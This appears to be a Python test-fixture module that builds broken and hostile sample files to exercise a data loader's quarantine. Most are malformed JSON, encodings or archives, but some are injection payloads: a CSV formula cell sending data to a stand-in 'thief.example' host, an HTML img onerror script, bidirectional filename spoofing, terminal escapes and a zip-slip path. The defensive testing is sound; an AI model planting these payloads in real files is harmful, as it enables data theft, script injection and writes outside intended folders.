"""Hostile and broken files for the quarantine, made byte by byte so that each can be explained."""

from __future__ import annotations

import gzip
import io
import json
import zipfile
from dataclasses import dataclass
from typing import Any

_STORY = "The reading room at Fenwick Bay opens again on Monday after the roof was mended."


@dataclass(frozen=True)
class Broken:
    """A small file with something wrong: its bytes, what is wrong, how many records are sound."""

    content: bytes
    wrong: str
    sound: int
    unsound: int


def broken_files() -> dict[str, Broken]:
    """Return the files of ``data/sample/broken`` by name."""
    good = _line(id="b-1", text=_STORY)
    other = _line(id="b-2", text="A second, sound record follows the broken one.")
    packed = _gzipped(
        b"".join(_line(id=f"g-{i}", text=f"{_STORY} Copy {i}, {i * i} words.") for i in range(40))
    )
    return {
        "bad-line.jsonl": Broken(
            good + b'{"id": "b-x", "text": "cut off in the mid\n' + other, "the second line is not JSON", 2, 1
        ),
        "missing-text.jsonl": Broken(
            good
            + _line(id="b-3", title="No text at all")
            + _line(id="b-4", text=None)
            + _line(id="b-5", text=1931),
            "no text, null for text, a number for text",
            1,
            3,
        ),
        "empty-text.jsonl": Broken(
            good + _line(id="b-6", text="") + _line(id="b-7", text=" \n\t "),
            "a text without a character, a text of white space",
            1,
            2,
        ),
        "not-utf8.jsonl": Broken(
            good + b'{"id": "b-8", "text": "caf\xe9 and \xff\xfe"}\n' + other,
            "bytes that are not UTF-8 in the second record",
            2,
            1,
        ),
        "lone-surrogate.jsonl": Broken(
            good + b'{"id": "b-9", "text": "half an emoji \\ud83d here"}\n' + other,
            "an escaped surrogate without its other half",
            2,
            1,
        ),
        "not-an-object.jsonl": Broken(
            good + b'["b-10", "a list"]\n42\n' + other, "a list and a number where objects belong", 2, 2
        ),
        "deep.jsonl": Broken(
            good + b'{"id": "b-11", "text": ' + b"[" * 5000 + b"]" * 5000 + b"}\n" + other,
            "five thousand brackets within brackets",
            2,
            1,
        ),
        "duplicate-id.jsonl": Broken(
            _line(id="twin", text=_STORY) + _line(id="twin", text=f"{_STORY} Again."),
            "two records with one id, which loading tells apart",
            2,
            0,
        ),
        "truncated.jsonl.gz": Broken(
            packed[: len(packed) // 2], "gzip cut off half-way; the records before the cut are sound", 12, 1
        ),
        "empty.jsonl": Broken(b"", "no bytes", 0, 1),
        "binary.jsonl": Broken(bytes(range(256)) * 8, "not text", 0, 1),
        "no-text-column.csv": Broken(
            b"id,page,stamp\n1,14,2031-04-02\n2,3,2031-04-03\n", "a table without a column of texts", 0, 1
        ),
        "formula.csv": Broken(_formula(), "cells that a spreadsheet would run; sound as text", 2, 0),
        "bidi.jsonl": Broken(
            _line(
                id="b-12", title="\u202egnp.elif", text=f"{_STORY} \u202e\u2066reversed\u2069\u202c \u200b"
            ),
            "bidirectional overrides and a zero-width space; sound as text",
            1,
            0,
        ),
        "control.jsonl": Broken(
            _line(id="b-13", text=f"{_STORY}\x00\x1b[31mred\x07"),
            "a null byte, a terminal escape and a bell; sound as text",
            1,
            0,
        ),
        "script-title.html": Broken(
            _page(), "script in the title and in attributes; must be escaped when shown", 1, 0
        ),
        "climbing.zip": Broken(
            _climbing(), "a member named ../../climbed.txt; nothing may be written outside", 0, 1
        ),
    }


def _line(**record: Any) -> bytes:
    return json.dumps(record, ensure_ascii=False).encode() + b"\n"


def _gzipped(raw: bytes) -> bytes:
    out = io.BytesIO()
    with gzip.GzipFile("", "wb", 9, out, mtime=0) as packed:
        packed.write(raw)
    return out.getvalue()


def _formula() -> bytes:
    rows = [
        "id,title,text",
        f'1,"=HYPERLINK(""https://thief.example/?""&A1,""read"")","{_STORY}"',
        f'2,@SUM(1+1),"+{_STORY}"',
    ]
    return ("\n".join(rows) + "\n").encode()


def _page() -> bytes:
    sentence = "The council of Quillmouth voted on Tuesday to repair the sea wall before the autumn tides. "
    body = "".join(
        f"<p>{sentence}{_STORY} Line {i} of the minutes was agreed without a division.</p>" for i in range(6)
    )
    return (
        "<!doctype html><html lang=en><head><meta charset=utf-8>"
        "<title>Wall &lt;script&gt;alert('title')&lt;/script&gt;</title></head><body><article>"
        "<h1>Wall <img src=x onerror=\"alert('heading')\"></h1>"
        f"{body}<p>&lt;script&gt;alert('body')&lt;/script&gt;</p></article></body></html>\n"
    ).encode()


def _climbing() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr(zipfile.ZipInfo("../../climbed.txt", (2031, 1, 1, 0, 0, 0)), f"Climbed\n{_STORY}\n")
    return out.getvalue()
